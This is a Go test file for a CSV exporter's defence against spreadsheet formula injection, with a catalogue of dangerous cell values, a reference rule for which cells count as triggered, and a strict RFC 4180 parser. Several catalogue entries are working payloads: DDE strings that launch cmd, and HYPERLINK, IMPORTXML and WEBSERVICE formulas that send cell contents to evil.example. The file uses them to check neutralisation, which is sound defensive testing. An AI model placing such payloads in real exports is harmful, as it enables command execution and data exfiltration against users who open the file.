package export_test

import (
	"errors"
	"fmt"
	"strings"
	"unicode"
	"unicode/utf8"

	"golang.org/x/text/unicode/norm"
)

// catalog holds every stored value of security catalog §O (O-01 to O-10)
// with the cell a spreadsheet must receive.
var catalog = []struct {
	id, in, want string
}{
	{"O-01", "=1+1", "'=1+1"},
	{"O-02 plus", "+1+1", "'+1+1"},
	{"O-02 minus", "-1+1", "'-1+1"},
	{"O-02 at", "@SUM(1+1)", "'@SUM(1+1)"},
	{"O-03 tab", "\t=1+1", "'\t=1+1"},
	{"O-03 CR", "\r=1+1", "'\r=1+1"},
	{"O-03 LF", "\n=1+1", "'\n=1+1"},
	{"O-03 NUL", "\x00=1", "'\x00=1"},
	{"O-04 DDE cmd", "=cmd|' /C calc'!A0", "'=cmd|' /C calc'!A0"},
	{"O-04 DDE()", `=DDE("cmd";"/C calc";"!A0")`, `'=DDE("cmd";"/C calc";"!A0")`},
	{"O-04 @SUM DDE", "@SUM(1+9)*cmd|' /C calc'!A0", "'@SUM(1+9)*cmd|' /C calc'!A0"},
	{"O-04 minus DDE", "-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"},
	{"O-04 plus DDE", "+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"},
	{"O-05 HYPERLINK", `=HYPERLINK("https://evil.example/?d="&A2,"Click")`, `'=HYPERLINK("https://evil.example/?d="&A2,"Click")`},
	{"O-05 IMPORTXML", `=IMPORTXML(CONCAT("https://evil.example/?v=",A2),"//a")`, `'=IMPORTXML(CONCAT("https://evil.example/?v=",A2),"//a")`},
	{"O-05 WEBSERVICE", `=WEBSERVICE("https://evil.example/"&A2)`, `'=WEBSERVICE("https://evil.example/"&A2)`},
	{"O-06 space", " =1+1", "' =1+1"},
	{"O-06 NBSP", "\u00a0=1+1", "'\u00a0=1+1"},
	{"O-06 ideographic space", "\u3000=1+1", "'\u3000=1+1"},
	{"O-06 zero-width space", "\u200b=1+1", "'\u200b=1+1"},
	{"O-07 comma quote", `a","=1+1`, `a","=1+1`},
	{"O-07 OWASP", `=1+2";=1+2`, `'=1+2";=1+2`},
	{"O-07 semicolon", "a;=1+1", "a;=1+1"},
	{"O-07 quote LF", "a\"\n=1+1", "a\"\n=1+1"},
	{"O-08 escaped", "'=1+1", "'=1+1"},
	{"O-09 negative", "-42", "'-42"},
	{"O-09 phone", "+1 555 0100", "'+1 555 0100"},
	{"O-10 full-width =", "＝1+1", "'＝1+1"},
	{"O-10 full-width +", "＋1+1", "'＋1+1"},
	{"O-10 full-width -", "－1+1", "'－1+1"},
	{"O-10 full-width @", "＠SUM(1)", "'＠SUM(1)"},
	{"O-10 small =", "﹦1+1", "'﹦1+1"},
	{"O-10 minus sign", "\u22121+1", "'\u22121+1"},
	{"benign", "Berlin, Germany", "Berlin, Germany"},
	{"benign inner =", "a=b", "a=b"},
	{"benign email", "ann@example.com", "ann@example.com"},
	{"empty", "", ""},
	{"blank only", "   ", "   "},
}

// triggered is the test's own statement of the rule, written apart from
// the implementation: skip leading white space and invisible format
// characters; the cell is dangerous if what follows is a tab, CR, LF or
// NUL (checked before skipping), or folds under NFKC to = + - @, or is
// U+2212.
func triggered(cell string) bool {
	if cell != "" && strings.ContainsRune("\t\r\n\x00", rune(cell[0])) {
		return true
	}
	rest := strings.TrimLeftFunc(cell, func(r rune) bool {
		if r == '\t' || r == '\r' || r == '\n' {
			return false
		}
		return unicode.IsSpace(r) || unicode.In(r, unicode.Zs, unicode.Cf, unicode.Other_Default_Ignorable_Code_Point)
	})
	if rest == "" {
		return false
	}
	r, _ := utf8.DecodeRuneInString(rest)
	if r == '\t' || r == '\r' || r == '\n' || r == 0 || r == '\u2212' {
		return true
	}
	f := norm.NFKC.String(string(r))
	return f != "" && strings.ContainsRune("=+-@", rune(f[0]))
}

// parseStrict parses data as RFC 4180 §2 with CRLF line breaks: every
// record ends in CRLF, a field is either quoted (inside, "" is a quote and
// anything else is literal) or contains no comma, quote, CR or LF, and
// nothing may follow a closing quote but a comma or CRLF. Fields are
// returned byte for byte.
func parseStrict(data string) ([][]string, error) {
	var (
		recs  [][]string
		rec   []string
		field strings.Builder
	)
	i := 0
	for i < len(data) {
		field.Reset()
		if data[i] == '"' {
			i++
			for {
				if i >= len(data) {
					return nil, errors.New("unterminated quoted field")
				}
				if data[i] == '"' {
					if i+1 < len(data) && data[i+1] == '"' {
						field.WriteByte('"')
						i += 2
						continue
					}
					i++
					break
				}
				field.WriteByte(data[i])
				i++
			}
		} else {
			for i < len(data) && data[i] != ',' && data[i] != '\r' && data[i] != '\n' {
				if data[i] == '"' {
					return nil, fmt.Errorf("quote inside an unquoted field at %d", i)
				}
				field.WriteByte(data[i])
				i++
			}
		}
		rec = append(rec, field.String())
		switch {
		case i < len(data) && data[i] == ',':
			i++
			if i == len(data) {
				return nil, errors.New("record ends after a comma")
			}
		case strings.HasPrefix(data[i:], "\r\n"):
			i += 2
			recs = append(recs, rec)
			rec = nil
		default:
			return nil, fmt.Errorf("bad byte after field at %d", i)
		}
	}
	if rec != nil {
		return nil, errors.New("last record does not end in CRLF")
	}
	return recs, nil
}
